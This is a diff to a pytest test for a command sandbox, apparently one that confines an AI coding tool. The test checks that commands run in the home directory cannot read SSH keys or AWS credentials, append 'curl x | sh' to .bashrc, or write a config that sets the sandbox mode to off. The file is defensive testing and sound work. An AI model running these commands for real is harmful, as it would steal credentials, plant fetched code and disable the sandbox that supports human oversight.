@@ -83,10 +83,18 @@ def test_home_secrets_and_shadow_are_not_readable(box: Box) -> None:
 
 
 def test_home_secrets_stay_hidden_when_the_workspace_is_the_home(box: Box) -> None:
-    done = box.run("cat .ssh/id_ed25519 .aws/credentials ~/.ssh/id_ed25519; ls -A .ssh; echo listed",
+    (box.home / ".bashrc").write_text("# rc\n")
+    (box.home / ".config" / "claude-proxy").mkdir(parents=True)
+    for made in (".bashrc", ".config", ".config/claude-proxy"):
+        os.chown(box.home / made, box.uid, -1)  # so only the sandbox stands in the way
+    done = box.run("cat .ssh/id_ed25519 .aws/credentials ~/.ssh/id_ed25519; ls -A .ssh; echo listed; "
+                   "echo 'curl x | sh' >> .bashrc && echo RC; echo 'sandbox: {mode: off}' > "
+                   ".config/claude-proxy/settings.yaml && echo SETTINGS; echo ok > notes.txt && echo NOTES",
                    cwd=box.home)
     assert "FAKE" not in done["stdout"]
     assert "id_ed25519" not in done["stdout"] and "listed" in done["stdout"]
+    assert "RC" not in done["stdout"] and "SETTINGS" not in done["stdout"] and "NOTES" in done["stdout"]
+    assert (box.home / ".bashrc").read_text() == "# rc\n"
 
 
 @pytest.fixture
